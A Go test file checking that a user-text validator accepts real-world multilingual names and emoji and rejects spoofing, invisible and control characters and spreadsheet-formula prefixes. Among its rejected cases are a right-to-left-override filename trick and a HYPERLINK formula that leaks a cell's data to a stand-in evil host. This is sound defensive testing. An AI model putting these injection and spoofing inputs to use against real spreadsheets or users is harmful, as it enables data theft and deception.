package usertext_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/tidemark/tidemark/usertext"
)

// accepted is text users really give; none of it may be refused.
var accepted = []string{
	"",
	"tester",
	"kim, jr",
	"user@example.com",
	"a=b", "a-b", "a+b", "2025-02", "10000",
	"김철수",
	"홍길동 2세",
	"배송 오류로 인한 쿠폰 교환 (50% 할인)",
	"이영희😀",
	"日本語の名前", "王小明", "ヨシダ",
	"葛\U000E0100飾",                        // an ideographic variation selector
	"Zoë", "nai\u0308ve", "Ελένη", "Анна", // combining diaeresis
	"\u2764\ufe0f",                               // red heart, emoji presentation
	"\U0001F44D\U0001F3FD",                       // thumbs up, skin tone
	"\U0001F469\u200d\U0001F4BB",                 // woman technologist: a ZWJ sequence
	"\U0001F468\u200d\U0001F469\u200d\U0001F467", // family
	"\U0001F3F3\ufe0f\u200d\U0001F308",           // rainbow flag: ZWJ after a variation selector
	"\U0001F1F0\U0001F1F7",                       // Korea's flag (regional indicators)
	"1\ufe0f\u20e3",                              // keycap one
	"\U0001F3F4\U000E0067\U000E0062\U000E0073\U000E0063\U000E0074\U000E007F", // Scotland's flag
	"\u0645\u06CC\u200c\u062E\u0648\u0627\u0647\u0645",                       // Persian with a ZWNJ
	"a\u00a0b", "김\u3000철수", // no-break and ideographic spaces inside
	" kim ", // spaces are the caller's rule
	strings.Repeat("가", 1000),
}

func TestCheckAccepts(t *testing.T) {
	t.Parallel()
	for _, s := range accepted {
		require.NoError(t, usertext.Check(s), "%q", s)
	}
}

func TestCheckRefuses(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ s, err string }{
		{"\u202eevil", "contains a right-to-left override U+202E at character 1"},
		{"ab\u202ecod.exe", "contains a right-to-left override U+202E at character 3"},
		{"김철\u202e수", "contains a right-to-left override U+202E at character 3"},
		{"a\u200eb", "contains a left-to-right mark U+200E at character 2"},
		{"\u061C", "contains an Arabic letter mark U+061C at character 1"},
		{"x\u2066y\u2069", "contains a left-to-right isolate U+2066 at character 2"},
		{"ki\u200bm", "contains a zero width space U+200B at character 3"},
		{"\ufeffkim", "contains a zero width no-break space (byte order mark) U+FEFF at character 1"},
		{"a\u00adb", "contains a soft hyphen U+00AD at character 2"},
		{"a\u2060b", "contains a word joiner U+2060 at character 2"},
		{"\u3164", "contains a Hangul filler U+3164 at character 1"},
		{"김\uffa0", "contains a Hangul filler U+FFA0 at character 2"},
		{"a\u2028b", "contains a line separator U+2028 at character 2"},
		{"a\u2029", "contains a paragraph separator U+2029 at character 2"},
		{"\u0600", "contains an invisible format character U+0600 at character 1"},
		{"a\x00b", "contains a NUL U+0000 at character 2"},
		{"a\tb", "contains a tab U+0009 at character 2"},
		{"a\nb", "contains a line feed U+000A at character 2"},
		{"a\r", "contains a carriage return U+000D at character 2"},
		{"\x1b[31mred", "contains an escape U+001B at character 1"},
		{"a\u0085", "contains a control character U+0085 at character 2"},
		{"a\x7f", "contains a delete U+007F at character 2"},
		{"\xff", "contains an invalid UTF-8 byte 0xFF at character 1"},
		{"김\xed\xa0\x80", "contains an invalid UTF-8 byte 0xED at character 2"}, // an encoded surrogate
		{"ab\xc3", "contains an invalid UTF-8 byte 0xC3 at character 3"},        // a cut-off character
		{"kim\ufffd", "contains a replacement character U+FFFD at character 4 (text mangled before it arrived: invalid UTF-8 or a lone surrogate)"},
		{"\uffff", "contains a noncharacter U+FFFF at character 1"},
		{"a\U000E0041", "contains a tag character U+E0041 at character 2"},
		{"\u200d\U0001F4BB", "contains a zero width joiner U+200D at character 1, not between two visible characters"},
		{"\U0001F469\u200d", "contains a zero width joiner U+200D at character 2, not between two visible characters"},
		{"\U0001F469\u200d\u200d\U0001F4BB", "contains a zero width joiner U+200D at character 2, not between two visible characters"},
		{"a \u200cb", "contains a zero width non-joiner U+200C at character 3, not between two visible characters"},
		{"\U0001F3F4\U000E0041\U000E0042\U000E0043\U000E007F", "contains a tag character U+E0041 at character 2"},          // capitals
		{"\U0001F3F4\U000E0067\U000E0062\U000E0073\U000E0063", "contains a tag character U+E0067 at character 2"},          // no cancel tag
		{"\U0001F3F4\U000E0067\U000E007F", "contains a tag character U+E0067 at character 2"},                              // too short
		{"\U0001F3F4" + strings.Repeat("\U000E0061", 8) + "\U000E007F", "contains a tag character U+E0061 at character 2"}, // too long
		{"=1+1", "starts with '=' (a spreadsheet formula)"},
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "starts with '=' (a spreadsheet formula)"},
		{"-5", "starts with '-' (a spreadsheet formula)"},
		{"+5", "starts with '+' (a spreadsheet formula)"},
		{"@SUM(A1:A9)", "starts with '@' (a spreadsheet formula)"},
		{"  =1", "starts with '=' (a spreadsheet formula)"},
		{"\u3000-1", "starts with '-' (a spreadsheet formula)"},
		{"=\u202e", "contains a right-to-left override U+202E at character 2"},
	} {
		require.EqualError(t, usertext.Check(c.s), c.err, "%q", c.s)
	}
}
